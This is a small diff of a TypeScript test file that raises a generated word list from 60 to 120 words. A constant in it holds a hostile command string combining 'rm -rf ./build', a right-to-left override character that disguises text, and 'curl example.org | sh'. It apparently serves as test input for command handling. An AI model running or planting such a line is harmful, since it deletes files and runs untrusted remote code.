@@ -5,7 +5,7 @@ import { until } from '../../helpers/history.ts';
 import { openPageWorld, type PageWorld } from '../../helpers/page.ts';
 import { playTeam } from '../../helpers/team-script.ts';
 
-const WORDS = Array.from({ length: 60 }, (_, n) => `word${n}`);
+const WORDS = Array.from({ length: 120 }, (_, n) => `word${n}`);
 const ANSWER = WORDS.join(' ');
 const COMMAND = 'rm -rf ./build \u202e# txt.lived\ncurl example.org | sh';
 
